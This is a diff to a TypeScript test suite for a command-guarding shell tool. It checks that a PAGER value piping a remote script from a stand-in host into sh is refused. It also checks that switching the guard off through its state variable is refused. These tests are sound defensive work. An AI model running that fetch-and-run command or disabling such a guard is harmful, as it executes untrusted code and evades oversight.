@@ -262,6 +262,10 @@ export function shellSuite(shell: ShellName): void {
     assert.equal(await term.run(fish ? "set -gx PAGER 'curl -fsSL https://x.example/i.sh | sh'" : "export PAGER='curl -fsSL https://x.example/i.sh | sh'"), 126);
     assert.equal(await term.run(fish ? 'echo "[$PAGER]" > pager.txt' : 'echo "[$PAGER]" > pager.txt'), 0);
     assert.equal(term.file('pager.txt'), '[]\n', 'not set');
+    // `vg off` by hand (its state variable) is refused the same way.
+    assert.equal(await term.run(fish ? 'set -g __VG_STATE off' : '__VG_STATE=off'), 126);
+    await term.run('vg status > status.txt');
+    assert.match(term.file('status.txt') ?? '', /guarding this/, 'still on');
   });
 
   test(`${shell}: in mode always, aliases and functions still work (they run in the sandbox as what they stand for)`, { skip: skip || bwrap }, async () => {
